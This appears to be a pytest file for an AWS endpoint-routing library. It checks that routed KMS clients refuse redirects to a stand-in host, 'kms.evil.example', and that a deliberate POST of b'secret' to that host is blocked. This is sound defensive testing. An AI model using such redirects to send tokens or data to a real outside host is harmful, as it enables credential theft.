"""aiohttp follows redirects unless it is told not to, and takes body and session token along."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

import pytest
from botocore.exceptions import ClientError

from endpoint_router.lab.network import Lab
from endpoint_router.lab.values import Reply
from endpoint_router.sdk.seams_async import HELD
from tests.support.async_lab import Wire, calls, client_of, plain_session, run, session_for
from tests.support.lab_client import KMS, KMS_FIPS
from tests.support.pinning import ONE, PRIVATE_DNS, private_dns

EVIL = "kms.evil.example"
FIPS = {"defaults": {"fips": "require"}}
PREFERRED = {"defaults": {"fips": "prefer"}}
REGIONS = {"defaults": {"allowed_regions": ["us-*"]}}


def redirecting(status: int = 307) -> Lab:
    reply = Reply(status, (("Location", f"https://{EVIL}/"),), b"{}")
    return Lab(replies={("kms", "ListKeys"): reply})


def declare(lab: Lab) -> None:
    lab.host(EVIL, "52.94.0.66")
    lab.host(KMS_FIPS, "52.94.0.11")
    private_dns(lab, ONE)


async def list_keys(client: Any) -> None:
    with pytest.raises(ClientError):
        await client.list_keys()


@pytest.mark.parametrize("status", [301, 302, 307, 308])
@pytest.mark.parametrize("policy", [FIPS, PREFERRED, PRIVATE_DNS, REGIONS])
def test_a_routed_client_follows_none(policy: Mapping[str, Any], status: int):
    with redirecting(status) as lab:
        declare(lab)
        calls(lab, policy, list_keys)
        assert {seen.host for seen in lab.seen} <= {KMS, KMS_FIPS}
        assert ("52.94.0.66", 443) not in lab.dialled


def test_where_nobody_wants_anything_aiohttp_does_as_it_does():
    """What is sent is byte for byte what a plain client sends, to wherever that may be."""
    with redirecting() as lab:
        declare(lab)

        async def plain() -> None:
            async with client_of(plain_session(lab)) as client:
                await Wire().lead(client, lab).list_keys()

        run(plain())
        went = [(seen.sni, seen.path) for seen in lab.seen]
        assert [host for host, _ in went] == [KMS, EVIL]
        lab.seen.clear()
        calls(lab, {}, lambda client: client.list_keys())
        assert [(seen.sni, seen.path) for seen in lab.seen] == went


@pytest.mark.parametrize("policy", [FIPS, PRIVATE_DNS])
def test_each_hop_is_held_to_the_decision_where_it_connects(policy: Mapping[str, Any]):
    """Should somebody ask aiohttp for redirects all the same, no hop connects elsewhere."""
    with redirecting() as lab:
        declare(lab)

        async def main() -> None:
            async with client_of(session_for(lab, policy)) as client:
                http_session = client._endpoint.http_session
                with pytest.raises(ClientError):
                    await client.list_keys()
                assert HELD.get()
                (session,) = http_session._sessions.values()
                lab.seen.clear()
                before = list(lab.dialled)
                with pytest.raises(Exception, match="unasked"):
                    await session.request("POST", url=f"https://{EVIL}/", data=b"secret")
                assert lab.dialled == before

        run(main())
        assert not lab.seen
